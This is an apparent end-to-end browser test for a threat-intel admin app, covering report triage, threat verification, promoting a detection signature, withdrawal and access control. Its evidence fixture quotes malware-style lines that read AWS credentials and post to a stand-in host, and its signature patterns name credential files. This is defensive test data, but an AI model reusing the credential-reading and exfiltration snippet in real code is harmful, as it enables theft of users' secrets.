"""An analyst triages a report from first look to signature in a real browser (headless Chromium)."""
import pytest
import requests
from selenium.common.exceptions import StaleElementReferenceException, WebDriverException
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import WebDriverWait

from intel.models import Report, Threat
from sigil.api.authentication import issue_access_token
from signatures.models import Signature
from tests.conftest import PASSWORD, make_user
from tests.intel.factories import HASH_B, make_report

pytestmark = pytest.mark.django_db(transaction=True)

EVIDENCE = ["install.js:3 fs.readFileSync(os.homedir() + '/.aws/credentials')",
            "install.js:9 https.request('https://hooks.example/collect')"]


def wait_replaced(page, element):
    """Wait until the next page replaced the one holding `element`. Chromium sometimes reports a node
    of the old document as "does not belong to the document" rather than as a stale reference:
    both mean the page was replaced."""
    def replaced(_):
        try:
            element.is_enabled()
        except StaleElementReferenceException:
            return True
        except WebDriverException as exc:
            if "does not belong to the document" in str(exc):
                return True
            raise
        return False

    WebDriverWait(page, 15).until(replaced)


def go(page, path):
    page.get(page.base_url + path)  # get() returns once the page has loaded


def login(page, email):
    go(page, "/admin/login/?next=/admin/")
    page.find_element(By.NAME, "username").send_keys(email)
    page.find_element(By.NAME, "password").send_keys(PASSWORD)
    submit = page.find_element(By.CSS_SELECTOR, "input[type=submit]")
    submit.click()
    wait_replaced(page, submit)


def click(page, by, value):
    """Follow a link and wait for the next page."""
    element = page.find_element(by, value)
    element.click()
    wait_replaced(page, element)


def text(page) -> str:
    return page.find_element(By.TAG_NAME, "body").text


def submit_form(page, form_id, **fields):
    form = page.find_element(By.ID, form_id)
    for name, value in fields.items():
        field = form.find_element(By.NAME, name)
        field.clear()
        field.send_keys(value)
    form.find_element(By.CSS_SELECTOR, "input[type=submit]").click()
    # Wait until the answer replaced the page, so the database is read after the request ran.
    wait_replaced(page, form)


def api_get(live_server, user, path):
    return requests.get(live_server.url + path, headers={"Authorization": f"Bearer {issue_access_token(user)}"},
                        timeout=10)


def test_analyst_goes_from_report_to_signature_to_withdrawal(page, live_server, carol, alice, bob):
    report = make_report(alice, evidence=EVIDENCE, severity="critical")
    queued = make_report(bob, severity="critical", source_hash=HASH_B, source_ref="next-pkg@1.0.0")
    make_report(bob, severity="low", source_hash="sha256:" + "c" * 64, source_ref="quiet-pkg@1.0.0")

    login(page, carol.email)
    assert "Site administration" in text(page)
    # The admin is styled: its stylesheet was served.
    header = page.find_element(By.ID, "header")
    assert page.execute_script("return getComputedStyle(arguments[0]).backgroundColor", header) not in (
        "rgba(0, 0, 0, 0)", "transparent")

    # Filter the queue to critical reports; the low one disappears, priorities are explained.
    go(page, "/admin/intel/report/")
    click(page, By.LINK_TEXT, "Critical")
    assert "severity__exact=critical" in page.current_url
    assert "quiet-pkg" not in text(page) and "critical +40" in text(page)
    click(page, By.LINK_TEXT, report.public_id)

    # Context on the page: evidence as a list, reporter by email, no known threat yet.
    body = text(page)
    assert "install.js:3 fs.readFileSync" in body and "alice@example.com" in body
    assert "No threat recorded" in body

    submit_form(page, "decide-start_review", reason="Looking at install.js")
    assert f"Start review: {report.public_id}." in text(page)
    report.refresh_from_db()
    assert report.status == "in_review"

    # Verify: a threat is created and the next report of the filtered queue opens.
    submit_form(page, "decide-verify", reason="Reads AWS credentials and posts them out")
    report.refresh_from_db()
    threat = Threat.objects.get()
    assert report.status == "verified" and report.threat == threat
    assert f"/admin/intel/report/{queued.pk}/change/" in page.current_url
    assert f"Verify: {report.public_id} → {threat.reference}." in text(page)

    # Promote: a pattern that matches none of the evidence is refused first.
    go(page, f"/admin/intel/report/{report.pk}/change/")
    click(page, By.ID, "promote-link")
    submit_form(page, "promote-form", name="aws_credentials_read", pattern=r"\.ssh/id_rsa")
    assert "Matches none of the report's 2 evidence line(s)." in text(page)
    assert not Signature.objects.exists()
    submit_form(page, "promote-form", pattern=r"\.aws/credentials")
    signature = Signature.objects.get()
    assert f"Promoted {report.public_id} to signature {signature.public_id}." in text(page)
    assert (signature.origin, signature.origin_report) == ("report", report.public_id)

    # The feed serves it.
    feed = api_get(live_server, alice, "/v1/signatures").json()
    assert signature.public_id in [s["id"] for s in feed["signatures"]]
    token = feed["next_sync_token"]

    # Withdraw it with a reason, after a confirmation page, and see the tombstone.
    click(page, By.LINK_TEXT, signature.public_id)
    click(page, By.CLASS_NAME, "withdraw-link")
    assert "Yes, withdraw" in page.page_source
    submit_form(page, "withdraw-form", reason="Too broad: matches documentation")
    assert "Too broad: matches documentation. Clients received it as a tombstone." in text(page)
    delta = api_get(live_server, alice, f"/v1/signatures?next_sync_token={token}").json()
    assert [(s["id"], s["status"]) for s in delta["signatures"]] == [(signature.public_id, "withdrawn")]

    # The audit trail shows old -> new values with who and why.
    trail = page.find_element(By.CSS_SELECTOR, "table.audit-trail").text
    assert "Active → Withdrawn" in trail and "carol@example.com" in trail
    assert "Withdrawn: Too broad: matches documentation" in trail
    go(page, f"/admin/intel/report/{report.pk}/change/")
    trail = page.find_element(By.CSS_SELECTOR, "table.audit-trail").text
    assert "Submitted → In review" in trail and "In review → Verified" in trail
    assert "Start review: Looking at install.js" in trail


def test_staff_without_the_analysts_group_cannot_see_the_queue(page, alice):
    make_user("staffer@example.com", is_staff=True)
    make_report(alice)
    login(page, "staffer@example.com")
    assert "Reports" not in text(page)
    go(page, "/admin/intel/report/")
    assert "403" in page.title or "Forbidden" in text(page) or "permission" in text(page).lower()
    assert not Report.objects.exclude(status="submitted").exists()
